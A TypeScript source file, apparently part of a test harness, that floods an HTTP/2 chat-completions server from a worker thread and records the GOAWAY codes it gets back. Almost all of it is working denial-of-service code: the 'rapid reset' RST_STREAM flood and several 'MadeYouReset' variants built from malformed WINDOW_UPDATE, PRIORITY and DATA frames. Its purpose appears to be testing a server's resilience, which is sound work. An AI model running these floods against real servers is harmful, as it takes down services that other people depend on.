import { parentPort } from "node:worker_threads";
import { connect, FLAG, FRAME, frame, headers, uint32 } from "./raw-http2";

/** Floods a node with requests, in a thread of its own, so that the other client's times don't include this work. */

export const CONNECTIONS = 10;
const RESETS_PER_CONNECTION = 20_000;
/** As many as a node starts for a connection that resets its requests. */
const ORDINARY_PER_CONNECTION = 1000;
const PER_WRITE = 100;

const BODY = Buffer.from(JSON.stringify({ messages: [{ role: "user", content: "Hi" }] }));

/** A request and its reset: by the client, or by an error that makes the server reset it ("MadeYouReset"). */
const RESETS = {
  "RST_STREAM (rapid reset)": (stream: number) => frame(FRAME.reset, 0, stream, uint32(8)),
  "WINDOW_UPDATE of zero": (stream: number) => frame(FRAME.windowUpdate, 0, stream, uint32(0)),
  "WINDOW_UPDATE beyond the maximum": (stream: number) => frame(FRAME.windowUpdate, 0, stream, uint32(2 ** 31 - 1)),
  "PRIORITY of six bytes": (stream: number) => frame(FRAME.priority, 0, stream, Buffer.alloc(6)),
  "DATA after END_STREAM": (stream: number) => frame(FRAME.data, 0, stream, BODY),
  "PRIORITY on itself": (stream: number) =>
    frame(FRAME.priority, 0, stream, Buffer.concat([uint32(stream), Buffer.of(1)])),
};
export type Reset = keyof typeof RESETS;
export const RESET_KINDS = Object.keys(RESETS) as Reset[];

/** `reset`: undefined for ordinary requests, whose answers are read. */
export interface FloodOrder {
  url: string;
  reset: Reset | undefined;
}

/** Error codes of GOAWAY, or -1. */
export type FloodResult = number[];

/** Sends requests over one connection until it closes or all are sent. Returns GOAWAY's error code. */
const attack = async (url: URL, reset: Reset | undefined): Promise<number> => {
  const request = headers({
    ":method": "POST",
    ":scheme": "http",
    ":authority": url.host,
    ":path": "/v1/chat/completions",
    "content-type": "application/json",
  });
  const connection = await connect(url);
  let isOpen = true;
  void connection.closed.then(() => {
    isOpen = false;
  });
  const requests = reset ? RESETS_PER_CONNECTION : ORDINARY_PER_CONNECTION;
  for (let sent = 0; sent < requests; sent += PER_WRITE) {
    const frames = Array.from({ length: PER_WRITE }, (_, index) => {
      const stream = 2 * (sent + index) + 1;
      const whole = [
        frame(FRAME.headers, FLAG.endHeaders, stream, request),
        frame(FRAME.data, FLAG.endStream, stream, BODY),
      ];
      return reset ? [...whole, RESETS[reset](stream)] : whole;
    });
    if (!(await connection.write(Buffer.concat(frames.flat())))) break;
  }
  while (!reset && isOpen && connection.ended() < requests) await Bun.sleep(1);
  connection.destroy();
  return connection.closed;
};

const flood = async ({ url, reset }: FloodOrder): Promise<FloodResult> =>
  Promise.all(Array.from({ length: CONNECTIONS }, () => attack(new URL(url), reset)));

parentPort?.on("message", async (order: FloodOrder) => parentPort?.postMessage(await flood(order)));
